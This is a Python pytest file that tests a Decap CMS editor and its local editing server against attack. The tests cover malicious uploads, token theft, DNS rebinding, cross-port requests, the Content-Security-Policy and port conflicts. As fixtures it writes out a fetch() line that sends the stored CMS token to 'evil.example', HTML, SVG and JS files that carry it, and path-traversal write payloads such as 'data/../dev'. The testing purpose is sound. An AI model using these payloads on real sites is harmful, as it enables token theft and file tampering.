"""The editor's tools as an attacker would use them (issue 16), in real Chromium: uploads
through the editor, a page that wants the token after an upload, a DNS-rebinding page and a
page on another localhost port against the local editing server, the editor page's
Content-Security-Policy, and ``./dev edit`` on a port another process holds."""

from __future__ import annotations

import json
import socket
import urllib.error
import urllib.request
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup

from browser import chromium, serve, shared_browser
from cms_editor import shared_admin_folder, shared_editor
from microsite.editing.admin_site import write_admin
from microsite.editing.cms_local import editor_server
from projectcopy import copy_project, run_microsite, snapshot
from shared_builds import copy_site
from sitebuild import REPO, build_stops

TOKEN = "gho_GEHEIM4711"
USER = json.dumps({"backendName": "github", "token": TOKEN, "login": "redaktion"})
STEAL = "fetch('https://evil.example/?'+localStorage.getItem('decap-cms-user'));window.stolen=1"
UPLOADS = {
    "steal.html": f"<script>{STEAL}</script>",
    "steal.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{STEAL}</script></svg>",
    "steal.js": STEAL,
    "seite.md": "# Seite\n\n<script src='../steal.js'></script>\n",
}
# what the page itself sends to its local backend, as Decap does (same origin)
POST = """async ([action, params]) => {
  const response = await fetch('/api/v1', {method: 'POST', body: JSON.stringify({action, params}),
                                           headers: {'Content-Type': 'application/json'}});
  return [response.status, await response.text()];
}"""
HARMFUL_WRITES = [
    ("persistMedia", {"branch": "main", "asset": {"path": "docs/assets/uploads/steal.html",
                                                  "content": "PHNjcmlwdD4=",
                                                  "encoding": "base64"},
                      "options": {"commitMessage": "x"}}),
    ("persistEntry", {"branch": "main", "assets": [{"path": "docs/assets/uploads/steal.js",
                                                    "content": "YWxlcnQoMSk=",
                                                    "encoding": "base64"}],
                      "dataFiles": [{"slug": "projects", "path": "data/projects.yaml",
                                     "raw": "records: []\n"}],
                      "options": {"commitMessage": "x", "useWorkflow": False,
                                  "status": "draft"}}),
    ("persistEntry", {"branch": "main", "assets": [],
                      "dataFiles": [{"slug": "x", "path": "dev", "raw": "echo pwned\n"}],
                      "options": {"commitMessage": "x", "useWorkflow": False,
                                  "status": "draft"}}),
    ("persistEntry", {"branch": "main", "assets": [],
                      "dataFiles": [{"slug": "x", "path": ".venv/lib/evil.pth",
                                     "raw": "import os\n"}],
                      "options": {"commitMessage": "x", "useWorkflow": False,
                                  "status": "draft"}}),
    ("persistEntry", {"branch": "main", "assets": [],
                      "dataFiles": [{"slug": "x", "path": "data/../dev", "raw": "echo pwned\n"}],
                      "options": {"commitMessage": "x", "useWorkflow": False,
                                  "status": "draft"}}),
    ("deleteFile", {"branch": "main", "path": "data/projects.yaml",
                    "options": {"commitMessage": "x"}}),
]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return copy_project(tmp_path / "project")


def _files(project: Path) -> dict[str, str]:
    return {name: digest for name, digest in snapshot(project).items()
            if not name.startswith((".", "site"))}


def test_an_upload_through_the_editor_is_refused_and_nothing_is_written(one_record: Path) -> None:
    project = one_record
    (project / "dev").write_text("#!/bin/sh\n", encoding="utf-8")
    before = _files(project)
    with shared_editor(project) as ed:
        ed.page.get_by_role("button", name="eintrag hinzufügen").click()
        # no media library: no button opens one, in the header or a field
        assert ed.page.get_by_role("button", name="Medien").count() == 0
        assert ed.page.get_by_text("Medien", exact=True).count() == 0
        answers = [ed.page.evaluate(POST, [action, params]) for action, params in HARMFUL_WRITES]
        assert ed.foreign == []
    for (action, _), (status, body) in zip(HARMFUL_WRITES, answers, strict=True):
        assert status == 403, (action, status, body)
        assert "abgelehnt" in body or "nicht möglich" in body or "nicht an" in body, body
    assert _files(project) == before
    assert not (project / "docs" / "assets" / "uploads").exists()


def test_a_page_cannot_read_the_token_after_an_upload(project: Path, tmp_path: Path,
                                                      site: Path) -> None:
    # the sample's site as build(project) writes it, built once per run
    published = copy_site(site, tmp_path / "site")
    write_admin(published, REPO)
    uploads = project / "docs" / "assets" / "uploads"
    uploads.mkdir(parents=True)
    for name, text in UPLOADS.items():  # as the old media library saved them
        (uploads / name).write_text(text, encoding="utf-8")
    # the build refuses them before writing (as a process: tests/checks/test_foreign_files.py)
    stopped, log = build_stops(project, published)
    assert stopped and "darf nicht auf die Website" in log, log
    with serve(published) as url:
        context = shared_browser().new_context()
        sent: list[str] = []

        def route(route: object) -> None:
            request = route.request  # type: ignore[attr-defined]
            if request.url.startswith(url):
                route.continue_()  # type: ignore[attr-defined]
            else:
                sent.append(request.url)
                route.abort()  # type: ignore[attr-defined]
        context.route("**/*", route)
        page = context.new_page()
        page.goto(url + "admin/anmeldung.html")
        page.evaluate("user => localStorage.setItem('decap-cms-user', user)", USER)
        statuses = []
        for path in ("steal.html", "steal.svg", "steal.js", "seite/", "seite.md"):
            response = page.goto(f"{url}assets/uploads/{path}")
            statuses.append(response.status if response else None)
            assert page.evaluate("window.stolen") is None
        page.goto(url)
        page.wait_for_load_state("networkidle")  # all the start page asks for
        context.close()
    assert statuses == [404] * 5
    assert not any(TOKEN in s or "evil.example" in s for s in sent), sent


def _request(url: str, host: str, *, method: str = "GET", origin: str | None = None,
             body: bytes | None = None) -> tuple[int, str]:
    headers = {"Host": host, "Content-Type": "application/json"}
    if origin:
        headers["Origin"] = origin
    request = urllib.request.Request(url, data=body, headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def test_the_local_server_answers_only_its_own_host_and_origin(project: Path) -> None:
    data_file = project / "data" / "projects.yaml"
    before = data_file.read_bytes()
    body = json.dumps({"action": "persistEntry", "params": {
        "branch": "main", "assets": [], "dataFiles": [
            {"slug": "projects", "path": "data/projects.yaml", "raw": "records: []\n"}],
        "options": {"commitMessage": "x", "useWorkflow": False, "status": "draft"}}}).encode()
    read = json.dumps({"action": "getEntry",
                       "params": {"branch": "main", "path": "data/projects.yaml"}}).encode()
    with editor_server(shared_admin_folder(), project) as server:
        api = f"http://127.0.0.1:{server.port}/api/v1"
        own = f"localhost:{server.port}"
        # DNS rebinding: the browser names the attacker's host
        foreign = [_request(api, f"evil.example:{server.port}", method="POST",
                            origin=f"http://evil.example:{server.port}", body=body),
                   _request(api, f"evil.example:{server.port}", method="POST",
                            origin=f"http://evil.example:{server.port}", body=read),
                   _request(f"http://127.0.0.1:{server.port}/admin/config.yml",
                            f"evil.example:{server.port}")]
        # a page on another localhost port, and a request without an Origin
        other = [_request(api, own, method="POST", origin="http://localhost:1", body=body),
                 _request(api, own, method="POST", body=body)]
        status, text = _request(api, own, method="POST", origin=f"http://{own}", body=read)
    assert [s for s, _ in foreign] == [403, 403, 403]
    assert all("eigene Adresse" in text for _, text in foreign)
    assert [s for s, _ in other] == [403, 403]
    assert data_file.read_bytes() == before
    assert status == 200 and json.loads(text)["data"] == before.decode()


def test_a_rebinding_page_in_chromium_is_refused(project: Path) -> None:
    before = _files(project)
    with editor_server(shared_admin_folder(), project) as server, \
            chromium("--host-resolver-rules=MAP evil.example 127.0.0.1") as (_, browser):
        page = browser.new_page()
        response = page.goto(f"http://evil.example:{server.port}/admin/")
        opened = response.status if response else None
        answer = page.evaluate(POST, HARMFUL_WRITES[2])
    assert opened == 403
    assert answer[0] == 403
    assert _files(project) == before


def test_the_editor_page_has_a_strict_policy(one_record: Path) -> None:
    project = one_record
    site = shared_admin_folder()
    for name in ("index.html", "anmeldung.html"):
        html = BeautifulSoup((site / "admin" / name).read_text(encoding="utf-8"), "lxml")
        policy = html.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
        assert policy is not None, name
        directives = dict(d.strip().split(" ", 1) for d in policy["content"].split(";"))
        assert directives["default-src"] == "'none'"
        assert "'unsafe-inline'" not in directives.get("script-src", "")
        assert not html.find("script", src=False), name  # no inline script
    with shared_editor(project) as ed:
        # Decap works under the policy: no violation since the page was first loaded
        assert ed.policy_messages == []
        ran = ed.page.evaluate("""async () => {
          const s = document.createElement('script');
          s.textContent = 'window.injected = 1';
          document.body.append(s);
          let fetched = 'blocked';
          try { await fetch('https://evil.example/?t=1'); fetched = 'sent'; } catch (e) {}
          return [window.injected === 1, fetched];
        }""")
    assert ran == [False, "blocked"]
    assert ed.foreign == []  # the fetch never left the page: the policy stopped it
    assert ed.policy_messages
    ed.policy_messages.clear()  # the shared page's record: this test's violations were wanted


def test_edit_refuses_a_port_another_process_holds(project: Path) -> None:
    for part in ("tools", "admin", "guide"):  # the installed Decap CMS, our editor files
        (project / part).symlink_to(REPO / part)
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        holder.listen()
        port = holder.getsockname()[1]
        result = run_microsite("edit", "--root", str(project), "--port", str(port),
                               "--no-browser", cwd=project)
    assert result.returncode == 1
    assert f"Port {port} ist schon belegt" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr


def test_the_config_has_no_uploads_and_asks_for_the_least_scope() -> None:
    config = yaml.safe_load((REPO / "admin" / "config.yml").read_text(encoding="utf-8"))
    assert "media_folder" not in config and "public_folder" not in config
    assert config["media_library"] == {"name": "keine-uploads"}
    assert config["backend"]["auth_scope"] == "public_repo"


def test_the_published_page_asks_no_local_server_only_edit_does() -> None:
    published = yaml.safe_load((REPO / "admin" / "config.yml").read_text(encoding="utf-8"))
    assert "local_backend" not in published
    site = shared_admin_folder()
    local = yaml.safe_load((site / "admin" / "config.yml").read_text(encoding="utf-8"))
    assert local["local_backend"]["allowed_hosts"] == ["127.0.0.1", "localhost"]
    assert local["local_backend"]["url"].endswith("/api/v1")
